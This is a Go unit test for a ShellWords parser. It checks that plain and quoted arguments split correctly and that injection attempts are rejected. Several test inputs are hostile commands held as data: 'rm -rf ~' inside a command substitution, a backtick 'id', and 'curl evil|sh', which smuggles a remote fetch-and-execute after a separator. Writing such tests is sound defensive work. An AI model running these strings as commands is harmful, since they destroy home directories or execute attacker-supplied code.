package notifytest

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestShellWords(t *testing.T) {
	tests := []struct {
		name, in string
		want     []string
		wantErr  bool
	}{
		{name: "plain", in: "aliyun ims X --UserId 123", want: []string{"aliyun", "ims", "X", "--UserId", "123"}},
		{name: "quoted", in: `a '$(rm -rf ~)' "b c" d\ e`, want: []string{"a", "$(rm -rf ~)", "b c", "d e"}},
		{name: "substitution", in: "a $(rm -rf ~)", wantErr: true},
		{name: "backtick", in: "a `id`", wantErr: true},
		{name: "operator", in: "a ''; curl evil|sh #", wantErr: true},
		{name: "comment", in: "a #b", wantErr: true},
		{name: "unclosed", in: "a 'b", wantErr: true},
		{name: "line break", in: "a\nb", wantErr: true},
		{name: "glob", in: "a *", wantErr: true},
	}
	for _, tt := range tests {
		got, err := ShellWords(tt.in)
		if (err != nil) != tt.wantErr || (!tt.wantErr && !cmp.Equal(got, tt.want)) {
			t.Errorf("%s: ShellWords(%q) = %q, %v; want %q (error %v)", tt.name, tt.in, got, err, tt.want, tt.wantErr)
		}
	}
}
